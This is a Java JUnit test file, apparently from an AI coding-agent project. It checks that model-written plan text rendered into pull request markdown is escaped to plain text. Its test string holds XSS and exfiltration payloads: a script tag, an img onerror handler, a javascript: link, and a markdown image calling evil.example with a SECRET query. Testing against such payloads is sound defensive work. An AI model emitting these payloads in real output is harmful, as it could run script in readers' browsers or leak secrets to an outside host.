package io.ailanes.engine.plan;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.commonmark.parser.Parser;
import org.commonmark.renderer.html.HtmlRenderer;
import org.junit.jupiter.api.Test;

/** plan.md goes into pull request descriptions and build pages: what a model wrote there renders as text. */
class PlanMarkdownTest {

    private static final String HOSTILE = "Fix it <script>alert('x')</script> ![logo](https://evil.example/p.png?d=SECRET)"
            + " [docs](javascript:alert(1)) <img src=x onerror=alert(2)> **bold** `code` | cell | &lt;";

    private static String rendered(Plan plan) {
        String md = PlanMarkdown.of(plan, "ab".repeat(32));
        return HtmlRenderer.builder().build().render(Parser.builder().build().parse(md));
    }

    @Test
    void htmlImagesAndLinksFromTheModelRenderAsText() {
        Plan plan = new Plan(HOSTILE + "\n# not a heading\n1. not a list\n> not a quote",
                List.of(new Plan.Step(HOSTILE, List.of("src/A.java"))),
                List.of(new Plan.FileChange("src/A.java", "modify", HOSTILE)),
                List.of(HOSTILE), List.of(HOSTILE), List.of(new Plan.SuggestedGate(HOSTILE, "mvn -q test")));

        String html = rendered(plan);

        assertThat(html).doesNotContain("<script", "<img", "<a ", "<strong>", "<h1>not", "<blockquote>", "<ol start");
        assertThat(html).contains("&lt;script&gt;alert(", "![logo](https://evil.example/p.png?d=SECRET)",
                "[docs](javascript:alert(1))", "**bold**", "# not a heading", "1. not a list");
        // The table of files keeps its three columns: a | in the model's reason does not open a fourth.
        String row = PlanMarkdown.of(plan, "ab".repeat(32)).lines().filter(l -> l.startsWith("| `src/A.java`"))
                .findFirst().orElseThrow();
        assertThat(row.replace("\\|", "").chars().filter(c -> c == '|').count()).isEqualTo(4);
    }

    @Test
    void plainTextStaysReadable() {
        assertThat(PlanMarkdown.prose("Round the division up so a partial page counts."))
                .isEqualTo("Round the division up so a partial page counts.");
    }
}
